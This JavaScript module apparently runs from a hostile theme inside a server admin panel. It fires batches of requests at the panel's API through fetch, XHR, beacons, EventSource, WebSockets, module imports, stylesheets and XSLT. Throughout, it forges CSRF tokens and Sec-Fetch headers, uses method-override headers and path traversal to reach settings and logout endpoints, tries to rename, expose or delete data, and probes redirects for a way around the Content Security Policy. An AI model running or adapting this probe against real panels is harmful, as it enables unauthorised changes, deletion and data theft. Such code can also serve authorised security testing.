import { describe, fillPath, grabTogether } from './loot.js';

const bodies = {
  json: ['application/json', '{"name":"taken over","public":true}'],
  text: ['text/plain', '{"name":"taken over"}'],
  form: ['application/x-www-form-urlencoded', 'name=taken+over&_method=PUT'],
  none: [undefined, undefined],
};
const overrides = {
  'x-http-method-override': 'DELETE',
  'x-method-override': 'DELETE',
  'x-http-method': 'DELETE',
};
/** Headers with a guessed CSRF token, and forged Sec-Fetch-* headers. */
const disguise = (csrfToken) => [
  {},
  { 'x-csrf-token': csrfToken },
  overrides,
  { 'x-csrf-token': '' },
  { 'x-csrf-token': 'null' },
  { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'cors', 'user-agent': 'curl/8.14.1', 'accept-language': '' },
  { authorization: 'Bearer null', origin: 'null', referer: '' },
  {
    'sec-ch-ua': '"curl"',
    'sec-ch-ua-mobile': '?0',
    'sec-fetch-dest': 'document',
    'sec-purpose': 'prefetch',
  },
];

const hasBody = (method) => method !== 'GET' && method !== 'HEAD';

function send(path, { method = 'GET', body = 'none', headers = {}, ...rest } = {}) {
  const [type, content] = hasBody(method) ? bodies[body] : bodies.none;
  return fetch(path, {
    method,
    referrerPolicy: 'no-referrer',
    headers: { ...headers, ...(type === undefined ? {} : { 'content-type': type }) },
    ...(content === undefined ? {} : { body: content }),
    ...rest,
  });
}

function askByXhr(method, path, isAsync) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open(method, path, isAsync);
    request.setRequestHeader('content-type', 'text/plain');
    request.onload = () => resolve(`${request.status} ${request.responseText}`);
    request.onerror = () => reject(new Error('no answer'));
    request.send(hasBody(method) ? bodies.json[1] : null);
    if (!isAsync) resolve(`${request.status} ${request.responseText}`);
  });
}

function askByEventSource(path) {
  return new Promise((resolve, reject) => {
    const source = new EventSource(path);
    source.onopen = () => resolve('open');
    source.onmessage = ({ data }) => resolve(data);
    source.onerror = () => {
      source.close();
      reject(new Error('no stream'));
    };
  });
}

/** Group 1: every API that sends a request, to every operation and to the panel's page. */
export function sendPanel({ operations, panelOrigin }) {
  const attempts = operations.flatMap(({ method, path }) => {
    const url = panelOrigin + fillPath(path);
    return [
      [`fetch ${method} ${path}`, async () => describe(await send(url, { method, body: 'json' }))],
      [
        `keepalive ${method} ${path}`,
        async () => describe(await send(url, { method, body: 'text', keepalive: true })),
      ],
      [
        `blind ${method} ${path}`,
        async () => describe(await send(url, { method, body: 'form', mode: 'no-cors' })),
      ],
      [`xhr ${method} ${path}`, () => askByXhr(method, url, true)],
      [`waiting xhr ${method} ${path}`, () => askByXhr(method, url, false)],
      [
        `beacon ${path}`,
        async () => `sent ${navigator.sendBeacon(url, new Blob([bodies.json[1]], { type: 'text/plain' }))}`,
      ],
      [`events ${path}`, () => askByEventSource(url)],
      [
        `later ${method} ${path}`,
        async () => `sent ${fetchLater(url, { method, activateAfter: 0 }).activated}`,
      ],
    ];
  });
  return grabTogether(attempts);
}

/** The same by subresource loads: modules, styles, images, text tracks, XSLT and the Cache API. */
export function readPanel({ operations, panelOrigin }) {
  const paths = [
    ...operations.filter(({ method }) => method === 'GET').map(({ path }) => fillPath(path)),
    '/admin/',
  ];
  const attempts = paths.flatMap((path) => {
    const url = panelOrigin + path;
    return [
      ...['json', 'css', 'text', 'bytes'].map((type) => [
        `import ${type} ${path}`,
        async () => (await import(url, { with: { type } })).default,
      ]),
      ...['only-if-cached', 'force-cache'].map((cache) => [
        `${cache} ${path}`,
        async () => describe(await fetch(url, { cache, mode: 'same-origin' })),
      ]),
      ...[
        ['script', 'src'],
        ['link', 'href'],
        ['img', 'src'],
        ['track', 'src'],
      ].map(([tag, attribute]) => [`${tag} ${path}`, () => load(tag, attribute, url)]),
      [`xslt ${path}`, async () => readByStylesheet(url)],
    ];
  });
  return grabTogether(attempts);
}

function load(tag, attribute, url) {
  return new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    const place =
      tag === 'track' ? document.body.appendChild(document.createElement('video')) : document.body;
    if (tag === 'link') element.rel = 'stylesheet';
    element.onload = () => {
      const rules = [...(element.sheet?.cssRules ?? [])].map(({ cssText }) => cssText);
      const cues = [...(element.track?.cues ?? [])].map(({ text }) => text);
      resolve(`loaded ${[...rules, ...cues].join(' ')} ${element.naturalWidth ?? ''}`);
    };
    element.onerror = () => reject(new Error('not loaded'));
    element[attribute] = url;
    place.append(element);
    if (tag === 'track') element.track.mode = 'showing';
  });
}

function readByStylesheet(url) {
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
    <xsl:template match="/"><got><xsl:copy-of select="document('${url}')"/></got></xsl:template></xsl:stylesheet>`;
  const parser = new DOMParser();
  const processor = new XSLTProcessor();
  processor.importStylesheet(parser.parseFromString(sheet, 'text/xml'));
  const result = processor.transformToDocument(parser.parseFromString('<a/>', 'text/xml'));
  return new XMLSerializer().serializeToString(result);
}

/** Group 2: below /api/nodes/, which the theme's CSP allows. */
export function changeNodes({ csrfToken, spared }) {
  const paths = [
    ...['/api/nodes', '/api/nodes/', '/api/nodes/1', '/api/nodes/1/', '/api/nodes/%31', '/api/nodes//1'],
    ...['/api/nodes/order', '/api/nodes/1/token', '/api/nodes/1/traffic', '/api/nodes/1?_method=DELETE'],
    ...[
      '/api/nodes/../settings',
      '/api/nodes/..%2fsettings',
      '/api/nodes/%2e%2e/settings',
      '/api/nodes/..;/settings',
    ],
    ...[
      '/api/nodes/../auth/logout',
      '/api/nodes/..%5cdb%5cvacuum',
      '/api/themes/hostile',
      '/api/themes/default/config',
    ],
  ];
  const shapes = ['PUT', 'POST', 'DELETE', 'PATCH'].flatMap((method) =>
    Object.keys(bodies).map((body) => ({ method, body })),
  );
  const tried = paths.filter((path) => new URL(path, location.href).pathname !== spared);
  const attempts = tried.flatMap((path) => [
    ...shapes.map((shape) => [
      `${shape.method} ${shape.body} ${path}`,
      async () => describe(await send(path, shape)),
    ]),
    ...disguise(csrfToken).flatMap((headers) =>
      ['GET', 'POST', 'DELETE'].map((method) => [
        `${method} disguised ${path}`,
        async () => describe(await send(path, { method, body: 'json', headers })),
      ]),
    ),
    [`keepalive ${path}`, async () => describe(await send(path, { method: 'DELETE', keepalive: true }))],
    [
      `blind ${path}`,
      async () => describe(await send(path, { method: 'POST', body: 'text', mode: 'no-cors' })),
    ],
    [`beacon ${path}`, async () => `sent ${navigator.sendBeacon(path, bodies.json[1])}`],
  ]);
  return grabTogether(attempts);
}

/** Group 3: live streams opened as the panel opens them. */
export function openStreams({ panelOrigin, csrfToken }) {
  const base = panelOrigin.replace(/^http/, 'ws');
  const protocols = [[], ['muster'], ['muster', 'muster.csrf.x'], ['muster', `muster.csrf.${csrfToken}`]];
  const paths = [
    '/api/ws',
    '/api/ws?gzip',
    '/api/ws?csrfToken=x',
    '/api/ws/',
    '/api/agent/ws',
    '/api/agent/ws?token=x',
  ];
  const attempts = paths.flatMap((path) =>
    protocols.map((names) => [`stream ${path} as ${names}`, () => readStream(base + path, names)]),
  );
  return grabTogether(attempts);
}

function readStream(url, protocols) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url, protocols);
    socket.onmessage = async ({ data }) => {
      socket.close();
      resolve(typeof data === 'string' ? data : `${data.size} bytes`);
    };
    socket.onerror = () => reject(new Error('no stream'));
    socket.onclose = ({ code }) => reject(new Error(`closed with ${code}`));
  });
}

/** Group 4: the node list, with Sec-Fetch-* headers removed as far as a page can. */
export function readNodes({ csrfToken }) {
  const attempts = ['same-origin', 'cors', 'no-cors'].flatMap((mode) =>
    disguise(csrfToken).flatMap((headers) =>
      ['no-referrer', 'unsafe-url'].flatMap((referrerPolicy) =>
        ['default', 'reload', 'force-cache'].map((cache) => [
          `${mode} ${referrerPolicy} ${cache}`,
          async () => describe(await fetch('/api/nodes', { mode, headers, referrerPolicy, cache })),
        ]),
      ),
    ),
  );
  return grabTogether([...attempts, ['xhr', () => askByXhr('GET', '/api/nodes', true)]]);
}

/** Group 9: a redirect below an allowed path would bypass the CSP. */
export function followRedirects() {
  const paths = [
    '',
    '/',
    '/..',
    '/1',
    '/1/',
    '/1/metrics',
    '/1/metrics/',
    '/%2e%2e/',
    '/../auth/oauth',
    '//',
    '/./',
    '/admin',
  ];
  const roots = ['/api/nodes', '/api/me', '/api/themes', '/api/themes/hostile/config'];
  const attempts = roots.flatMap((root) =>
    paths.flatMap((path) =>
      ['GET', 'HEAD', 'POST'].map((method) => [
        `${method} ${root}${path}`,
        async () => (await send(root + path, { method, redirect: 'manual' })).type,
      ]),
    ),
  );
  return grabTogether(attempts);
}
